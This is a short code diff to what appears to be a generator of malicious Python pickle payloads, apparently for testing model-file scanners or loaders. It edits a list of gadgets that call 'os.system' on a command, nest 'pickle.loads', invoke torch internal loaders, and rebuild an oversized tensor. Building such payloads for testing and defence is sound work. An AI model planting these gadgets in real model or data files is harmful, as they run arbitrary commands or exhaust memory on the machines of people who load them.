@@ -4,7 +4,6 @@ import argparse
 import builtins
 import collections
 import functools
-import io
 import operator
 import os
 import pickle
@@ -54,7 +53,7 @@ def _payload(random: Random) -> Any:
         Calls(operator.methodcaller, "system", COMMAND),
         Calls(pickle.loads, inner),
         Calls(torch.storage._load_from_bytes, inner),
-        Calls(torch.load, io.BytesIO(inner)) if False else Calls(builtins.getattr, os, "system"),
+        Calls(builtins.getattr, Calls(__import__, "os"), "system"),
         Calls(collections.OrderedDict, state={"items": Calls(os.system, COMMAND)}),
         Calls(builtins.open, "trace", "w"),
         Calls(torch._utils._rebuild_tensor_v2, torch.zeros(2).untyped_storage(), 0, (10**6,), (1,), False, {}),
